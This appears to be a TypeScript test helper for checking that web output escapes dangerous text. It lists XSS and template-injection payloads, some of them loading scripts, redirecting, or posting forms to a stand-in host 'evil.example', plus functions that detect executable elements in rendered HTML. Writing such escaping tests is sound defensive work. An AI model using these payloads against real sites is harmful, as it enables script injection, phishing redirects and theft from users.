/**
 * Texts that run code, load a resource or change the document's structure if a page, document or script contains them
 * unescaped.
 */
export const dangerousTexts: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</SCRIPT ><script src=//evil.example/x.js></script>',
  '<!--<script>',
  '--><img src=x onerror=alert(1)>',
  ']]><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="//evil.example/pixel.gif">',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '`onclick=alert(1)`',
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example/">',
  '<form action="//evil.example/"><button>Pay</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;b&#x3e;',
  '\\u003cscript\\u003ealert(1)//',
  "a\u2028alert(1)\u2029'+alert(1)+'",
  "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
  "$& $` $' $1 $$ <b>",
  '@import url(//evil.example/x.css); } body { background: url(//evil.example/y.gif)',
];

const runningElements = 'script, iframe, frame, object, embed, base, meta[http-equiv], link, [srcdoc], img[src="x"]';
const urlAttributes = ['href', 'src', 'action', 'formaction', 'xlink:href', 'background'];

/** Whether opening or loading the URL runs a script or leaves the site. */
function isDangerousUrl(text: string): boolean {
  if (!URL.canParse(text, 'http://localhost')) return false;
  const { protocol, hostname, pathname } = new URL(text, 'http://localhost');
  const runs = protocol === 'javascript:' || (protocol === 'data:' && pathname.startsWith('text/html'));
  return runs || hostname === 'evil.example';
}

/**
 * Finds elements that run code or load a resource in a document that shows dangerous texts, as HTML; `[]` if all are
 * shown as text.
 */
export function findExecutables(root: ParentNode): string[] {
  const isDangerous = (element: Element) =>
    element.matches(runningElements) ||
    element.getAttributeNames().some((name) => {
      const value = element.getAttribute(name) ?? '';
      return /^on/i.test(name) || (urlAttributes.includes(name) && isDangerousUrl(value));
    });
  return [...root.querySelectorAll('*')].filter(isDangerous).map(({ outerHTML }) => outerHTML.slice(0, 200));
}

/** The texts that the document does not show literally. */
export function findMissingTexts(root: Node, texts: readonly string[] = dangerousTexts): string[] {
  const shown = root.textContent ?? '';
  return texts.filter((text) => !shown.includes(text));
}
